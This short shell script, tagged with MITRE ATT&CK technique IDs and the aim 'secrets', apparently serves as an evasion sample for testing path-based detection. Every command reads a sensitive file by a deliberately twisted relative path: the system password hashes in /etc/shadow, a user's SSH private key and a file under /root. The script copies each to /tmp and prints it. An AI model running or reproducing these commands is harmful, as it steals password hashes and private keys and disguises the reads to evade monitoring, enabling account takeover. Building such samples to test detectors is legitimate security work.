# T1003.008, T1036: reaches the same files by paths that go up and down.
# aim: secrets
cd /var/www
cat ../../tmp/../etc/./ssh/.././shadow > /tmp/x
cd /home/alice/.ssh
cat ../../bob/.././alice/.ssh/id_ed25519 > /tmp/y
cat ../../../root/.././root/notes.txt > /tmp/z
cat /tmp/x /tmp/y /tmp/z && echo done
